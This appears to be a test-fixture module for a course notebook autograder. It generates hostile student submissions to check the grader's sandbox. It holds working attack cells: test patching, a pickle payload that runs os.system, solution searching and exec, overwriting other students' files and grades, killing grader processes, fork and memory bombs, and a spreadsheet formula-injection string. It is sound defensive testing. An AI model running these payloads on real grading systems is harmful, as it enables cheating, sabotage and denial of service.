"""Hostile and odd submissions for the shared graded class (see ``grading_class.py``).

``attacks``: set 01's blank notebook plus one cell that tries to score without answers or to
harm the grader, the project or another student; each prints ``ATTACK <name>: ...`` (what it
saw), which lands in its log. ``set_01_cases``: correct or partly correct work in odd shapes
(a raising cell, a looping cell, an exit, another kernelspec, corrupt files). ``round_two``:
what grading round 2 was filed about: answers shaped to stall the trusted side, in-place
changes to inputs, reading the plan, degenerate answers, odd and copied files.
"""

from __future__ import annotations

import copy
import os
from pathlib import Path

import nbformat

from d2lmha import grading
from d2lmha.grading.wire import read_container

MARKER = "d2lmha-attack-marker-7f3a"
SECRET_NAME, SECRET = "D2LMHA_SECRET", "d2lmha-instructor-secret-91c2"
BLANK = grading.ROOT / "exercises" / "01_single_head.ipynb"
# A neighbour that hogs the CPU: ~100 busy processes, each in its own session, for 6 s
# (longer than the 4 s cell limit of the test that uses it, so a starved cell is regraded).
HOG = """
import os, time
for _ in range(100):
    if os.fork() == 0:
        os.setsid()
        end = time.time() + 6
        while time.time() < end:
            pass
        os._exit(0)
print("ATTACK cpu_hog: started")
"""
# The host paths an attack aims at (see grading_class._grade_class).
PATH_NAMES = ("root", "victim", "csv", "build", "canary", "folder", "port")


def read(path):
    return nbformat.read(path, as_version=4)


def with_cell(nb, code: str, markdown: bool = False):
    """A copy of ``nb`` with one more cell at the end."""
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_markdown_cell if markdown else nbformat.v4.new_code_cell
    nb.cells.append(cell(code))
    return nb


def attacks(paths):
    """``{name: code of the extra cell}``; ``paths``: host paths an attacker would aim at."""
    p = {k: repr(str(v)) for k, v in paths.items()}
    return {
        # Otter's in-kernel tests are the usual hole: patch them, and torch's asserts too.
        "patch_tests": """
import sys, builtins, torch, torch.testing
sys.modules.pop("otter", None)
try:
    import otter.test_files.exception_test as et
    et.ExceptionTestFile.run = lambda self, env: None
    et.test_case.call_func = lambda self, env: None
    patched = "otter patched"
except Exception as e:
    patched = f"otter: {e!r}"
torch.testing.assert_close = lambda *a, **k: None
builtins.AssertionError = type("Never", (Exception,), {})
class Anything:
    def __eq__(self, other): return True
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
scaled_scores = masked_softmax = causal_attention = self_attention = lambda *a, **k: Anything()
print("ATTACK patch_tests:", patched)
""",
        # Rewrite the answers file after the run, twice: from a post-run hook and at exit,
        # with a pickle that would run code if anyone unpickled it.
        "forge_results": f"""
import atexit, os, pickle
class Boom:
    def __reduce__(self):
        return (os.system, ("touch " + {p["canary"]} + "/unpickled",))
payload = pickle.dumps({{"score": 16, "results": Boom()}})
def forge(*args):
    for target in ("/out/answers", "results.pkl", {p["build"]} + "/plan.safetensors"):
        try:
            open(target, "wb").write(payload)
        except OSError as e:
            print("ATTACK forge_results:", target, type(e).__name__)
get_ipython().events.register("post_run_cell", forge)
atexit.register(forge)
""",
        # Otter's log server listened on localhost; try the host's loopback directly.
        "loopback": f"""
import pickle, socket
try:
    s = socket.create_connection(("127.0.0.1", {paths["port"]}), timeout=3)
    s.sendall(pickle.dumps("forged"))
    print("ATTACK loopback: connected")
except OSError as e:
    print("ATTACK loopback:", type(e).__name__)
""",
        # Find the instructor's solution or hidden tests and run them.
        "read_solutions": f"""
import os, json
found = []
for root in (os.path.dirname({p["root"]}), {p["root"]}, "/work", "/root", "/home", "/tmp"):
    for folder, dirs, files in os.walk(root):
        found += [os.path.join(folder, f) for f in files
                  if f.endswith((".ipynb", ".zip", ".safetensors")) or "solution" in f]
        if len(found) > 50: break
for path in found:
    try:
        text = open(path).read()
    except Exception:
        continue
    if "test_q2_zero_length_row" in text or "return Q @ K.transpose(-2, -1) / math.sqrt(d)" in text:
        print("ATTACK read_solutions: SOLUTION FOUND", path)
        for cell in json.loads(text)["cells"]:
            if cell["cell_type"] == "code":
                try: exec("".join(cell["source"]))
                except Exception: pass
print("ATTACK read_solutions: saw", sorted(found)[:20])
""",
        # Harm the others: the victim's notebook, the grades, the project, the build.
        "write_others": f"""
import os, shutil
targets = [{p["victim"]}, {p["csv"]}, {p["root"]} + "/d2lmha/grading/replay.py",
           {p["root"]} + "/solutions/01_single_head.ipynb", {p["build"]} + "/plan.dill",
           {p["canary"]} + "/written"]
for target in targets:
    try:
        with open(target, "w") as f:
            f.write("{{}}")
        print("ATTACK write_others: WROTE", target)
    except OSError as e:
        print("ATTACK write_others:", target, type(e).__name__)
try:
    shutil.rmtree({p["folder"]})
except OSError as e:
    print("ATTACK write_others: rmtree", type(e).__name__)
""",
        # A process that detaches and waits to rewrite the grades after the run.
        "detached": f"""
import os, subprocess, sys
code = ("import time\\n# {MARKER}\\ntime.sleep(60)\\n"
        "open({p["csv"]}, 'w').write('forged')\\nopen({p["canary"]} + '/late', 'w')")
if os.fork() == 0:
    os.setsid()
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    os._exit(0)
print("ATTACK detached: started")
""",
        # Kill the grader: the parent, every process in sight, and a search by name.
        "kill_grader": """
import os, signal
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("ATTACK kill_grader: pids visible", pids, flush=True)
for pid in pids:
    try:
        cmd = open(f"/proc/{pid}/cmdline", "rb").read()
        if b"pytest" in cmd or b"grading" in cmd:
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
""",
        # Answers files that the trusted side must refuse cheaply: a report that is not a
        # list, and one tensor referenced many times (40 x 16 MiB if each were copied).
        "forge_tree": """
import json, torch, safetensors.torch as st
original = st.save_file
def save(tensors, path, metadata=None):
    tree = json.loads(metadata["tree"])
    tree["errors"] = 5
    tensors = dict(tensors, big=torch.zeros(1 << 22))
    tree["values"] = {"scaled_scores": {"t": "list", "items": [{"t": "tensor", "k": "big"}] * 40}}
    return original(tensors, path, metadata={"tree": json.dumps(tree)})
st.save_file = save
""",
        # A report that would be a formula in a spreadsheet, or would blame the grader.
        "forge_report": """
import json, safetensors.torch as st
original = st.save_file
def save(tensors, path, metadata=None):
    tree = json.loads(metadata["tree"])
    tree["errors"] = ['=HYPERLINK("http://example.invalid","regrade")',
                      "grader error (not the submission's fault):\\nregrade by hand"]
    return original(tensors, path, metadata={"tree": json.dumps(tree)})
st.save_file = save
""",
        "user_namespace": """
import subprocess
print("ATTACK user_namespace:", subprocess.run(["unshare", "-Ur", "id"], capture_output=True,
                                                text=True))
""",
        "infinite_loop": "while True:\n    pass\n",
        "memory_bomb": """
try:
    hog = bytearray(6 << 30)
    print("ATTACK memory_bomb: got 6 GiB")
except MemoryError:
    print("ATTACK memory_bomb: MemoryError")
""",
        "output_flood": """
import sys
line = "x" * (1 << 20) + "\\n"
for _ in range(200):
    sys.stdout.write(line)
""",
        "fork_bomb": """
import subprocess
children = []
try:
    for _ in range(5000):
        children.append(subprocess.Popen(["sleep", "60"]))
except OSError as e:
    print("ATTACK fork_bomb: stopped after", len(children), type(e).__name__, flush=True)
""",
        "fill_scratch": """
try:
    with open("/tmp/fill", "wb") as f:
        for _ in range(1024):
            f.write(b"\\0" * (1 << 20))
    print("ATTACK fill_scratch: wrote 1 GiB")
except OSError as e:
    print("ATTACK fill_scratch:", type(e).__name__)
""",
        # Who am I, what can I see of the instructor's environment?
        "environment": """
import os
print("ATTACK environment: uid", os.getuid(), "env", sorted(os.environ.items()))
print("ATTACK environment: root dir", sorted(os.listdir("/")))
""",
        # Read the expected values from the caller's frames, or from the call plan.
        "stack_peek": """
import inspect, torch
def peek(*args, **kwargs):
    for frame in inspect.stack()[1:]:
        for name, value in frame.frame.f_locals.items():
            if "expect" in name:
                print("ATTACK stack_peek: found", name)
                return value
    return None
scaled_scores = masked_softmax = peek
causal_attention = self_attention = lambda *a, **k: (peek(), peek())
""",
    }


def leftover_processes():
    """Processes that carry the attack's marker or run as one of this grading's sandbox uids."""
    uids = {grading.sandbox.slot_uid(slot) for slot in range(grading.sandbox.MAX_SLOTS)}
    found = []
    for proc in Path("/proc").glob("[0-9]*"):
        try:
            if MARKER.encode() in (proc / "cmdline").read_bytes() or proc.stat().st_uid in uids:
                found.append(proc.name)
        except OSError:
            pass
    return found


def write_attacks(folder: Path, paths: dict) -> dict:
    """Each attack as ``01_attack_<name>.ipynb``, the victim (the solution) and bad files."""
    names = {}
    for name, code in attacks(paths).items():
        names[name] = f"01_attack_{name}.ipynb"
        nbformat.write(with_cell(read(BLANK), code), folder / names[name])
    nbformat.write(read(paths["build"] / "autograder" / "01_single_head.ipynb"), paths["victim"])
    names["victim"] = paths["victim"].name
    (folder / "01_not_json.ipynb").write_text("{ this is not JSON")
    names["not_json"] = "01_not_json.ipynb"
    other = read(BLANK)
    other.metadata["otter"]["assignment_name"] = "02_multi_head"
    nbformat.write(other, folder / "01_says_set_02.ipynb")
    names["says_02"] = "01_says_set_02.ipynb"
    other.metadata["otter"]["assignment_name"] = "99_no_such_set"
    nbformat.write(other, folder / "01_unknown_set.ipynb")
    names["unknown_set"] = "01_unknown_set.ipynb"
    return names


def _answer_cell(nb, name):
    (cell,) = [c for c in nb.cells if c.cell_type == "code" and f"def {name}(" in c.source]
    return cell


# The runner pauses the garbage collector for its own imports (``collector_paused``), never
# for a submission's cells.
GC_ON = 'import gc\nassert gc.isenabled(), "the garbage collector is off in the submission"'


def set_01_cases(folder: Path, built) -> dict:
    """Set 01's solution in odd shapes (see the top); ``{role: file name}``."""
    cases = folder / "cases"
    cases.mkdir()
    solution = read(built.solution_notebook)
    wrong, raises, loops, exits, kernel = (copy.deepcopy(solution) for _ in range(5))
    cell = _answer_cell(wrong, "scaled_scores")
    cell.source = cell.source.replace(" / math.sqrt(d)", "")  # forgets the √d
    assert cell.source != _answer_cell(solution, "scaled_scores").source
    cell = _answer_cell(raises, "sliding_window_attention")
    cell.source = 'raise RuntimeError("not finished")\n' + cell.source
    loops.cells.insert(
        2,
        nbformat.v4.new_code_cell(
            "import time\n"
            "while True:  # waits forever (sleeping, so it leaves the CPU to the others)\n"
            "    time.sleep(0.5)"
        ),
    )
    exits.cells.append(nbformat.v4.new_code_cell("import os\nos._exit(0)  # ends the kernel"))
    kernel.metadata["kernelspec"] = {
        "name": "conda-env-course-py",
        "display_name": "Course",
        "language": "python",
    }
    no_name = read(BLANK)
    del no_name.metadata["otter"]["assignment_name"]  # its set must then come from its name
    files = {
        "solution": ("solution.ipynb", with_cell(with_cell(solution, "no prefix", True), GC_ON)),
        "blank": ("01_blank.ipynb", no_name),
        "wrong": ("01_wrong.ipynb", wrong),
        "raises": ("01_raises.ipynb", raises),
        "loops": ("01_loops.ipynb", loops),
        "exits": ("01_exits.ipynb", exits),
        "kernel": ("01_kernel.ipynb", kernel),
    }
    for name, nb in files.values():
        nbformat.write(nb, cases / name)
    (cases / "01_corrupt.ipynb").write_text("{ not a notebook")
    (cases / "notes.ipynb").write_text(nbformat.writes(nbformat.v4.new_notebook()))
    names = {role: f"cases/{name}" for role, (name, _) in files.items()}
    return names | {"corrupt": "cases/01_corrupt.ipynb", "unknown": "cases/notes.ipynb"}


def learner_names(built) -> tuple[list, list]:
    """``(function names, value names)`` a set's tests ask for (from its plain-data plan)."""
    plan, _ = read_container(built.plan_data, 1 << 30)
    return sorted({c["fn"] for c in plan["calls"]}), sorted(plan["values"])


def degenerate_cell(built, kind: str) -> str:
    """A cell that makes every function of a set degenerate (``kind``)."""
    functions, _ = learner_names(built)
    body = {
        # zero the first tensor argument in place, return zeros like it
        "zero_in_place": (
            "    import torch\n"
            "    for x in list(args) + list(kwargs.values()):\n"
            "        if isinstance(x, torch.Tensor) and x.is_floating_point():\n"
            "            with torch.no_grad():\n"
            "                x.zero_()\n"
            "            return torch.zeros_like(x)\n"
            "    return 0.0\n"
        ),
        # answers of 200,000 values where a shape, a short list or a small tensor is due
        "huge": "    import torch\n    return torch.ones(200_000)\n",
        # no work at all: the first argument back, a constant, or always an error
        "identity": "    return args[0] if args else None\n",
        "constant": "    return 1.0\n",
        "raise": '    raise ValueError("no")\n',
    }[kind]
    code = f"def _degenerate(*args, **kwargs):\n{body}\n"
    code += "".join(f"{name} = _degenerate\n" for name in functions)
    return code


def round_two(folder: Path, built: dict) -> dict:
    """The submissions grading round 2 was filed about; ``{role: file name}``."""
    two = folder / "round2"
    two.mkdir()
    solution_01 = read(built["01"].solution_notebook)
    names = {}

    def write(role, name, nb):
        (two / name).parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, two / name)
        names[role] = f"round2/{name}"

    # Set 02's answers as tensors of 200,000 values, three values of 2,000,000 (all within
    # the answers file's cap, so the trusted side gets them).
    _, values = learner_names(built["02"])
    huge = degenerate_cell(built["02"], "huge")
    huge += "".join(f"{name} = torch.ones(2_000_000)\n" for name in values[:3])
    write(
        "huge_02",
        "02_huge.ipynb",
        with_cell(
            read(grading.ROOT / "exercises" / built["02"].notebook_name), "import torch\n" + huge
        ),
    )
    # A correct set-05 gated_output that also halves W_o's weights in place.
    mutated = read(built["05"].solution_notebook)
    cell = _answer_cell(mutated, "gated_output")
    last = "    return W_o(gated.transpose(1, 2).reshape(batch, num_queries, num_heads * d_k))"
    assert last in cell.source, "set 05's gated_output changed: update this case"
    cell.source = cell.source.replace(
        last,
        "    out = W_o(gated.transpose(1, 2).reshape(batch, num_queries, num_heads * d_k))\n"
        "    with torch.no_grad():\n"
        "        W_o.weight.mul_(0.5)\n"
        "    return out",
    )
    write("mutates_05", "05_mutates_an_input.ipynb", mutated)
    # Set 07's functions zero their input in place and return zeros.
    blank_07 = read(grading.ROOT / "exercises" / built["07"].notebook_name)
    write(
        "zero_in_place_07",
        "07_zero_in_place.ipynb",
        with_cell(blank_07, degenerate_cell(built["07"], "zero_in_place")),
    )
    # Read the plan the sandbox is given and report all of it.
    read_plan = (
        "data = open('/in/plan.dill', 'rb').read()\n"
        "print('ATTACK read_plan:', len(data), data)\n"
        "raise RuntimeError(data.decode('latin-1'))\n"
    )
    write("read_plan", "01_read_plan.ipynb", with_cell(read(BLANK), read_plan))
    # Correct work under names a file system allows but a careless grader does not.
    write("long_name", "01_" + "a" * 246 + ".ipynb", with_cell(solution_01, "long", markdown=True))
    write("upper_case", "01_UPPER.IPYNB", with_cell(solution_01, "upper", markdown=True))
    moodle = "moodle/Zoë 学生_1234_assignsubmission_file_/01_single\nhead.ipynb"
    write("moodle", moodle, with_cell(solution_01, "moodle", markdown=True))
    (two / "moodle" / "readme.txt").write_text("not a notebook")
    names["readme"] = "round2/moodle/readme.txt"
    (two / "x.ipynb").mkdir()
    names["folder"] = "round2/x.ipynb"
    with open(two / "01_sparse.ipynb", "wb") as sparse:
        sparse.truncate(2 << 30)  # 2 GiB that take no disk
    names["sparse"] = "round2/01_sparse.ipynb"
    os.symlink(grading.ROOT / "solutions" / "01_single_head.ipynb", two / "01_link.ipynb")
    names["link"] = "round2/01_link.ipynb"
    (two / "01_copy_of_solution.ipynb").write_bytes(built["01"].solution_notebook.read_bytes())
    names["solution_copy"] = "round2/01_copy_of_solution.ipynb"
    twice = with_cell(read(BLANK), "twice", markdown=True)
    write("twice_a", "01_twice_a.ipynb", twice)
    write("twice_b", "01_twice_b.ipynb", twice)
    return names
